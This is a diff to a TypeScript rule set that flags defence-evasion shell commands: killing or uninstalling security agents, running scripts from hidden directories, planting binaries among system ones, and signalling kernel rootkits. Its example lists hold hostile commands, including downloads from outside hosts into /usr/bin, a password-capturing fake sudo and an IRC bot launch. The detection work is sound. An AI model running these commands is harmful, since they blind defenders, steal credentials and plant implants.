@@ -9,9 +9,11 @@ import { MINERS, assignments, writes } from './persistence.js';
 import { agentSettingsFile } from './prompt_engineering.js';
 
 /** Endpoint security, audit and logging agents, by service, process and package name. */
-const SECURITY = new Set(['auditd', 'auditbeat', 'falco', 'falco-modern-bpf', 'falco-kmod', 'falco-bpf', 'osqueryd', 'osquery', 'wazuh-agent', 'wazuh-manager', 'ossec', 'ossec-hids', 'clamav-daemon', 'clamav-freshclam', 'clamd', 'freshclam', 'sysmon', 'sysmonforlinux', 'falcon-sensor', 'falcond', 'falcon', 'cbagentd', 'cbdaemon', 'sentinelone', 'sentinelagent', 's1-agent', 'mdatp', 'wdavdaemon', 'xagt', 'cylancesvc', 'sophos-spl', 'savd', 'esets', 'elastic-agent', 'elastic-endpoint', 'rsyslog', 'syslog-ng', 'systemd-journald', 'syslog', 'aide', 'tripwire', 'snort', 'suricata', 'zeek', 'apparmor', 'santad', 'santa', 'qualys-cloud-agent', 'taniumclient', 'auditctl', 'fail2ban', 'crowdstrike', 'sysdig', 'tracee', 'tetragon', 'lacework', 'datadog-agent']);
+const SECURITY = new Set(['auditd', 'auditbeat', 'falco', 'falco-modern-bpf', 'falco-kmod', 'falco-bpf', 'osqueryd', 'osquery', 'wazuh-agent', 'wazuh-manager', 'ossec', 'ossec-hids', 'clamav-daemon', 'clamav-freshclam', 'clamd', 'freshclam', 'sysmon', 'sysmonforlinux', 'falcon-sensor', 'falcond', 'falcon', 'cbagentd', 'cbdaemon', 'sentinelone', 'sentinelagent', 's1-agent', 'mdatp', 'wdavdaemon', 'xagt', 'cylancesvc', 'sophos-spl', 'savd', 'esets', 'elastic-agent', 'elastic-endpoint', 'rsyslog', 'syslog-ng', 'systemd-journald', 'syslog', 'aide', 'tripwire', 'snort', 'suricata', 'zeek', 'apparmor', 'santad', 'santa', 'qualys-cloud-agent', 'taniumclient', 'auditctl', 'fail2ban', 'crowdstrike', 'sysdig', 'tracee', 'tetragon', 'lacework', 'datadog-agent',
+  // the cloud vendors' host agents (Alibaba's Aegis, Tencent's YunJing and Barad, Huawei's HostGuard), the first thing cloud miners remove
+  'aegis', 'aliyundun', 'aliyundunupdate', 'alisecguard', 'aliyun-service', 'qcloud', 'yunjing', 'ydservice', 'ydlive', 'barad_agent', 'sgagent', 'hostguard', 'cloudmonitor']);
 const FIREWALLS = new Set(['ufw', 'firewalld', 'nftables', 'iptables', 'ip6tables', 'netfilter-persistent', 'pf']);
-const SECURITY_VENDOR = /xprotect|syspolicyd|crowdstrike|falcon|sentinel|carbonblack|cylance|sophos|eset|osquery|santa|wazuh|elastic|jamf\.protect|microsoft\.wdav|mdatp|xagt|fireeye|trellix|bitdefender|malwarebytes|littlesnitch|objective-see|lulu/i;
+const SECURITY_VENDOR = /xprotect|syspolicyd|crowdstrike|falcon|sentinel|carbonblack|cylance|sophos|eset|osquery|santa|wazuh|elastic|jamf\.protect|microsoft\.wdav|mdatp|xagt|fireeye|trellix|bitdefender|malwarebytes|littlesnitch|objective-see|lulu|aegis|aliyundun|qcloud|yunjing|hostguard/i;
 /** macOS's own logging and audit daemons and its malware scanners, by launchd label. */
 const APPLE_WATCHERS = /com\.apple\.(syslogd|auditd|xprotect|mrt|endpointsecurity)/i;
 const serviceName = (w: string) => w.replace(/\.(service|socket|timer)$/, '');
@@ -61,7 +63,7 @@ const SYSTEM_DIR = /^\/(usr|bin|sbin|lib|lib64|etc|boot|opt|var|System|Library|p
 const HARDENING_OFF = /^(kernel\.randomize_va_space|kernel\.yama\.ptrace_scope|kernel\.kptr_restrict|kernel\.dmesg_restrict|fs\.protected_(symlinks|hardlinks|regular|fifos)|kernel\.unprivileged_bpf_disabled)=0$/;
 const SYSTEM_BIN_DIR = /^\/(?:usr\/(?:local\/)?)?s?bin\/|^\/usr\/libexec\//;
 /** Commands users type without thinking, whose replacement sees their arguments, output or passwords. */
-const CORE_COMMANDS = new Set(['ls', 'ps', 'top', 'htop', 'netstat', 'ss', 'lsof', 'who', 'w', 'last', 'id', 'whoami', 'sudo', 'su', 'ssh', 'sshd', 'scp', 'login', 'passwd', 'bash', 'sh', 'dash', 'zsh', 'cat', 'find', 'grep', 'crontab', 'systemctl', 'kill', 'pkill', 'ip', 'ifconfig', 'iptables', 'mount']);
+const CORE_COMMANDS = new Set(['curl', 'wget', 'chattr', 'ls', 'ps', 'top', 'htop', 'netstat', 'ss', 'lsof', 'who', 'w', 'last', 'id', 'whoami', 'sudo', 'su', 'ssh', 'sshd', 'scp', 'login', 'passwd', 'bash', 'sh', 'dash', 'zsh', 'cat', 'find', 'grep', 'crontab', 'systemctl', 'kill', 'pkill', 'ip', 'ifconfig', 'iptables', 'mount']);
 /** Kernel threads' names, which a process list shows in brackets and nobody questions: miners and implants borrow them. */
 const KERNEL_THREAD = /^(?:kworker|kthreadd|ksoftirqd|kswapd|kdevtmpfs|kdmflush|kblockd|khugepaged|kauditd|jbd2|rcu_|migration|watchdogd?$)/;
 /** The user's own bin directories, which come before the system's in PATH. */
@@ -205,14 +207,15 @@ function securityOff(c: SimpleCommand): string | undefined {
     case 'pkill': case 'killall': return hit(SECURITY) || c.argv.some((w) => SECURITY_VENDOR.test(w) && !w.startsWith('-')) ? c.argv.join(' ') : undefined;
     case 'apt': case 'apt-get': case 'yum': case 'dnf': case 'zypper': case 'rpm': case 'dpkg': case 'snap':
       return hasArg(c, 'remove', 'purge', 'erase', 'autoremove', '-e', '-r', '-P', '--purge', '--remove') && hit(SECURITY) ? c.argv.join(' ') : undefined;
-    case 'rm': case 'shred': case 'unlink': case 'mv': return ops.some((o) => o.includes('/') && SECURITY.has(o.slice(o.lastIndexOf('/') + 1))) ? c.argv.join(' ') : undefined;
+    case 'rm': case 'shred': case 'unlink': case 'mv': return ops.some((o) => o.includes('/') && SECURITY.has(o.slice(o.lastIndexOf('/') + 1).toLowerCase())) ? c.argv.join(' ') : undefined;
     // `kill -9 $(pgrep -f falcon-sensor)`: the target is named by the substitution
     case 'kill': return c.dynamic.some(Boolean) && c.argv.some((w) => /\$\((pgrep|pidof)\b/.test(w) && (SECURITY_VENDOR.test(w) || [...SECURITY].some((s) => w.includes(s)))) ? c.argv.join(' ') : undefined;
     // the agents' own control tools, told to stand down
     case 'sentinelctl': return hasArg(c, 'unprotect', 'unload', 'disable') ? c.argv.join(' ') : undefined;
     case 'falconctl': return hasArg(c, '-d', '--delete') || c.argv.some((w) => w.startsWith('--rfm-state')) ? c.argv.join(' ') : undefined;
     case 'mdatp': return hasArg(c, 'real-time-protection', 'tamper-protection') && hasArg(c, 'disabled') ? c.argv.join(' ') : undefined;
-    default: return undefined;
+    // a security agent's own uninstaller (`/usr/local/qcloud/YunJing/uninst.sh`)
+    default: return /uninst/i.test(baseName(c.argv[0] ?? '')) && SECURITY_VENDOR.test(c.argv[0] ?? '') ? c.argv.join(' ') : undefined;
   }
 }
 
@@ -334,7 +337,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-EVADE-004', name: 'stops-security-tooling', score: 85, tactic: 'defense_evasion', technique: 'T1562.001', strong: true,
     message: 'Stops, removes or kills a security or logging agent', why: 'Turning off auditd, Falco, osquery, an EDR sensor or the syslog daemon blinds the people defending the machine.',
     test: securityOff,
-    examples: { fire: ['/???/[p]kill -9 [a]uditd', 'sudo pkill -9 -f XProtect', 'sudo kill -9 $(pgrep -f falcon-sensor)', 'sudo launchctl unload -w /System/Library/LaunchDaemons/com.apple.syslogd.plist', 'sudo log config --mode "level:off"', 'sudo /opt/sentinelone/bin/sentinelctl unprotect', 'sudo systemctl stop auditd && sudo systemctl disable auditd', 'sudo service auditd stop', 'sudo pkill -9 -f osqueryd', 'sudo apt-get purge -y falcon-sensor', 'sudo launchctl unload /Library/LaunchDaemons/com.crowdstrike.falcond.plist', 'sudo rm -f /usr/sbin/auditd /usr/sbin/auditctl', 'sudo systemctl stop rsyslog systemd-journald'], quiet: ['sudo systemctl restart nginx', 'sudo systemctl status auditd', 'sudo apt-get install -y auditd', 'pkill -f vite', 'sudo log config --subsystem com.example.app --mode "level:off"', 'launchctl unload ~/Library/LaunchAgents/com.example.dev.plist'] },
+    examples: { fire: ['/usr/local/qcloud/YunJing/uninst.sh; rm -rf /usr/local/qcloud', 'pkill -9 -f AliYunDun', '/???/[p]kill -9 [a]uditd', 'sudo pkill -9 -f XProtect', 'sudo kill -9 $(pgrep -f falcon-sensor)', 'sudo launchctl unload -w /System/Library/LaunchDaemons/com.apple.syslogd.plist', 'sudo log config --mode "level:off"', 'sudo /opt/sentinelone/bin/sentinelctl unprotect', 'sudo systemctl stop auditd && sudo systemctl disable auditd', 'sudo service auditd stop', 'sudo pkill -9 -f osqueryd', 'sudo apt-get purge -y falcon-sensor', 'sudo launchctl unload /Library/LaunchDaemons/com.crowdstrike.falcond.plist', 'sudo rm -f /usr/sbin/auditd /usr/sbin/auditctl', 'sudo systemctl stop rsyslog systemd-journald'], quiet: ['sudo systemctl restart nginx', 'sudo systemctl status auditd', 'sudo apt-get install -y auditd', 'pkill -f vite', 'sudo log config --subsystem com.example.app --mode "level:off"', 'launchctl unload ~/Library/LaunchAgents/com.example.dev.plist'] },
   },
   {
     id: 'PX-EVADE-005', name: 'disables-mac-or-audit', score: 80, tactic: 'defense_evasion', technique: 'T1562.001',
@@ -430,14 +433,20 @@ export const RULES: readonly Rule[] = [
     message: 'Runs or stages a program in a hidden or disguised directory', why: 'Binaries in /dev/shm/.x, /tmp/.X or directories named ". " or "..." are hidden from casual listing and are a dropper habit.',
     check: (i) => {
       const out: string[] = [];
+      const hiddenStaged = (p: string) => p.includes('/') && isStagingPath(p) && canonicalPath(p).includes('/.');
       for (const c of i.view?.commands ?? []) {
         const prog = c.argv[0]!;
-        if (prog.includes('/') && isStagingPath(prog) && canonicalPath(prog).includes('/.')) out.push(c.argv.join(' '));
+        if (hiddenStaged(prog)) out.push(c.argv.join(' '));
+        // the same program handed to a shell or interpreter (`sh /tmp/.p.sh`, `perl /tmp/.bot.pl`, `cat /tmp/.x/init | bash`)
+        if (isShell(c.name) || isInterpreter(c.name)) {
+          const script = operands(c)[0] ?? (c.pipeFrom?.name === 'cat' ? operands(c.pipeFrom)[0] : undefined);
+          if (script !== undefined && hiddenStaged(script)) out.push(`${c.pipeFrom?.name === 'cat' && !operands(c).length ? c.pipeFrom.argv.join(' ') + ' | ' : ''}${c.argv.join(' ')}`);
+        }
         if (['mkdir', 'mv', 'cp'].includes(c.name) && operands(c).some((p) => /\/\.+ +(\/|$)|\/\.{3,}(\/|$)|\/ +(\/|$)/.test(p))) out.push(c.argv.join(' '));
       }
       return out;
     },
-    examples: { fire: ['mkdir -p "/dev/shm/. " && mv /tmp/.b "/dev/shm/. /sshd"', 'nohup /dev/shm/.b >/dev/null 2>&1 &', '/usr/local/bin/.svc &'], quiet: ['./node_modules/.bin/vite', 'mkdir -p ~/.config/app', '~/.local/bin/tool --help'] },
+    examples: { fire: ['sh /tmp/.p.sh', "nohup perl /tmp/.bot.pl 45.9.148.125 6667 '#ouch' >/dev/null 2>&1 &", 'cat /tmp/.rsync/initall | bash', 'mkdir -p "/dev/shm/. " && mv /tmp/.b "/dev/shm/. /sshd"', 'nohup /dev/shm/.b >/dev/null 2>&1 &', '/usr/local/bin/.svc &'], quiet: ['sh ./scripts/.hooks/pre-push', 'bash /tmp/build.sh', 'python3 ~/.local/bin/tool.py', './node_modules/.bin/vite', 'mkdir -p ~/.config/app', '~/.local/bin/tool --help'] },
   },
   {
     id: 'PX-EVADE-022', name: 'plants-binary-among-system-binaries', score: 75, tactic: 'defense_evasion', technique: 'T1036.005',
@@ -455,7 +464,7 @@ export const RULES: readonly Rule[] = [
       // one already planted, started: no real program in a bin directory is named like a kernel thread (the watchdog daemon is)
       ...(i.view?.commands ?? []).filter((c) => KERNEL_THREAD.test(c.name) && !c.name.startsWith('watchdog') && SYSTEM_BIN_DIR.test(c.argv[0] ?? '')).map((c) => c.argv.join(' ')),
     ],
-    examples: { fire: [{ Filesystem: { operation: 'Create', path: '/home/dev/.local/bin/sudo', content: '#!/bin/bash\nread -s -p "[sudo] password: " p\n' } }, 'nohup /usr/sbin/kswapd0 -c /tmp/.c.json >/dev/null 2>&1 &', 'curl -o /usr/local/bin/kworker http://203.0.113.9/k', "printf '#!/bin/sh\\nread -s p; echo $p >> /tmp/.p; /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo", 'wget -O /usr/bin/.x http://203.0.113.9/x', 'cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo', 'sudo mv /bin/ls /bin/ls.bak'], quiet: [{ Filesystem: { operation: 'Write', path: '/home/dev/.local/bin/deploy', content: '#!/bin/sh\nmake deploy\n' } }, 'sudo mount --bind /srv/data /mnt/data', 'sudo mv /usr/local/bin/mytool /usr/local/bin/mytool.old', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python', 'curl -fsSLo ~/.local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl', 'ln -s $(which python3) ~/.local/bin/python', 'ps -o comm= -C kswapd0', 'sudo /usr/sbin/watchdog -c /etc/watchdog.conf'] },
+    examples: { fire: ['mv /usr/bin/curl /usr/bin/cd1', 'mv /usr/bin/chattr /usr/bin/zzhcht && zzhcht +i /etc/cron.d/root', { Filesystem: { operation: 'Create', path: '/home/dev/.local/bin/sudo', content: '#!/bin/bash\nread -s -p "[sudo] password: " p\n' } }, 'nohup /usr/sbin/kswapd0 -c /tmp/.c.json >/dev/null 2>&1 &', 'curl -o /usr/local/bin/kworker http://203.0.113.9/k', "printf '#!/bin/sh\\nread -s p; echo $p >> /tmp/.p; /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo", 'wget -O /usr/bin/.x http://203.0.113.9/x', 'cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo', 'sudo mv /bin/ls /bin/ls.bak'], quiet: [{ Filesystem: { operation: 'Write', path: '/home/dev/.local/bin/deploy', content: '#!/bin/sh\nmake deploy\n' } }, 'sudo mount --bind /srv/data /mnt/data', 'sudo mv /usr/local/bin/mytool /usr/local/bin/mytool.old', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python', 'curl -fsSLo ~/.local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl', 'ln -s $(which python3) ~/.local/bin/python', 'ps -o comm= -C kswapd0', 'sudo /usr/sbin/watchdog -c /etc/watchdog.conf'] },
   },
   {
     id: 'PX-EVADE-014', name: 'masquerades-process-name', score: 75, tactic: 'defense_evasion', technique: 'T1036.004',
@@ -496,6 +505,13 @@ export const RULES: readonly Rule[] = [
       fire: ['cp /private/tmp/libffmpeg.dylib "/Applications/Visual Studio Code.app/Contents/Frameworks/Electron Framework.framework/Versions/A/Libraries/libffmpeg.dylib"', 'insert_dylib --inplace --all-yes @executable_path/../Frameworks/libhook.dylib /Applications/Discord.app/Contents/MacOS/Discord', `plutil -insert LSEnvironment -json '{"DYLD_INSERT_LIBRARIES":"/Users/Shared/.libhook.dylib"}' /Applications/Telegram.app/Contents/Info.plist`],
       quiet: ['plutil -lint /Applications/Telegram.app/Contents/Info.plist', 'ls /Applications/Discord.app/Contents/MacOS', 'cp -R build/Release/MyApp.app /Applications/', 'plutil -insert CFBundleVersion -string 42 build/MyApp.app/Contents/Info.plist'],
     },
+  },
+  {
+    id: 'PX-EVADE-031', name: 'signals-kernel-rootkit', score: 85, tactic: 'defense_evasion', technique: 'T1014', strong: true,
+    message: 'Sends the signals a loaded kernel rootkit listens for', why: 'Diamorphine-style rootkits hook kill(): signal 31 hides a process, 63 hides or shows the module, 64 makes the caller root. Nothing else sends them.',
+    commands: ['kill'],
+    test: (c) => (c.argv.slice(1).some((w) => /^-(?:s\s*)?(?:31|63|64|SIGSYS|SYS|SIGRTMAX|RTMAX|SIGRTMAX-1|RTMAX-1)$/i.test(w)) ? c.argv.join(' ') : undefined),
+    examples: { fire: ['kill -31 $(pgrep -f xmrig) && kill -63 0', 'kill -64 0 && id'], quiet: ['kill -9 12345', 'kill -HUP $(cat /run/nginx.pid)', 'kill -TERM 4242'] },
   },
   {
     id: 'PX-EVADE-029', name: 'runs-packed-payload', score: 80, tactic: 'defense_evasion', technique: 'T1027.002',
